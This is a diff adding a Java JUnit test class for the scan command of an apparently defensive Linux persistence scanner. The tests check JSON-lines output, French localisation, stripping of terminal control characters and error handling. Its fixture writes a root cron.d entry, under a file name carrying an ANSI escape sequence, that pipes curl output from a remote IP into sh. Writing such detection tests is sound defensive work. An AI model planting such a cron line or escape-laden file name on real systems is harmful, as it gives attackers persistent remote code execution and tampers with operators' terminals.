@@ -1,0 +1,104 @@
+package bzh.vigie.agent;
+
+import static org.junit.jupiter.api.Assertions.assertEquals;
+import static org.junit.jupiter.api.Assertions.assertFalse;
+import static org.junit.jupiter.api.Assertions.assertTrue;
+
+import bzh.vigie.event.Item.Trait;
+import java.io.ByteArrayOutputStream;
+import java.io.IOException;
+import java.io.PrintStream;
+import java.nio.charset.StandardCharsets;
+import java.nio.file.Files;
+import java.nio.file.Path;
+import java.util.List;
+import java.util.Locale;
+import org.junit.jupiter.api.BeforeEach;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.io.TempDir;
+
+class ScanCommandTest {
+    @TempDir
+    Path folder;
+
+    Path root;
+    private final ByteArrayOutputStream out = new ByteArrayOutputStream();
+    private final ByteArrayOutputStream err = new ByteArrayOutputStream();
+
+    @BeforeEach
+    void aDisk() throws IOException {
+        root = Files.createDirectories(folder.resolve("disk"));
+        Files.createDirectories(root.resolve("etc/cron.d"));
+        Files.writeString(root.resolve("etc/passwd"), "root:x:0:0::/root:/bin/sh\n");
+        Files.writeString(root.resolve("etc/cron.d/evil\u001b[2J"), "* * * * * root curl http://203.0.113.1/x | sh\n");
+    }
+
+    @Test
+    void jsonLinesHaveItemsThenALocationEachThenASummary() {
+        assertEquals(0, scan("--root", root.toString(), "--format", "jsonl"));
+        List<String> lines = out.toString(StandardCharsets.UTF_8).lines().toList();
+        assertTrue(lines.getLast().startsWith("{\"kind\":\"summary\""), lines.getLast());
+        assertTrue(lines.stream().allMatch(l -> l.startsWith("{\"kind\":\"") && l.endsWith("}")));
+        assertTrue(lines.stream()
+                .anyMatch(l -> l.startsWith("{\"kind\":\"item\",\"location\":\"linux.cron.d\"")
+                        && l.contains("/etc/cron.d/evil\\\\x1b[2J")));
+        assertTrue(
+                lines.contains(
+                        "{\"kind\":\"location\",\"location\":\"linux.cron.d\",\"status\":\"read\",\"reason\":\"none\",\"items\":1}"));
+        assertEquals("", err.toString(StandardCharsets.UTF_8));
+    }
+
+    @Test
+    void peopleReadWordsInTheirLanguageWithoutControlCharacters() {
+        assertEquals(0, scan("--root", root.toString(), "--lang", "fr"));
+        String text = out.toString(StandardCharsets.UTF_8);
+        assertTrue(text.contains("éléments qui font redémarrer du code"), text);
+        assertTrue(text.contains(Words.in(Locale.FRENCH).of(Trait.NETWORK_TOOL)), text);
+        assertFalse(text.contains("\u001b"));
+        assertFalse(text.toLowerCase(Locale.ROOT).contains("propre"), text);
+    }
+
+    @Test
+    void theFileHoldsTheLinesAndTheScreenTheWords() throws IOException {
+        Path file = folder.resolve("scan.jsonl");
+        assertEquals(0, scan("--root", root.toString(), "--out", file.toString(), "--lang", "en"));
+        assertTrue(Files.readAllLines(file).getLast().contains("\"kind\":\"summary\""));
+        assertTrue(out.toString(StandardCharsets.UTF_8).contains(file.toString()));
+    }
+
+    @Test
+    void whatIsNoLinuxSystemIsRefusedWithTheRemedy() throws IOException {
+        assertEquals(2, scan("--root", folder.resolve("none").toString(), "--lang", "en"));
+        assertTrue(err.toString(StandardCharsets.UTF_8).contains("--root"));
+        assertEquals(
+                1,
+                scan("--root", Files.createDirectories(folder.resolve("empty")).toString()));
+        assertEquals(
+                1,
+                scan(
+                        "--root",
+                        root.toString(),
+                        "--out",
+                        folder.resolve("no/such/file").toString()));
+        assertFalse(err.toString(StandardCharsets.UTF_8).contains("\tat "));
+    }
+
+    @Test
+    void everyTraitHasWords() {
+        for (Trait trait : Trait.values()) {
+            assertFalse(Words.in(Locale.FRENCH)
+                    .of(trait)
+                    .equals(Words.in(Locale.ENGLISH).of(trait)));
+        }
+    }
+
+    private int scan(String... options) {
+        String[] args = new String[options.length + 1];
+        args[0] = "scan";
+        System.arraycopy(options, 0, args, 1, options.length);
+        return Commands.execute(
+                args,
+                new PrintStream(out, true, StandardCharsets.UTF_8),
+                new PrintStream(err, true, StandardCharsets.UTF_8));
+    }
+}
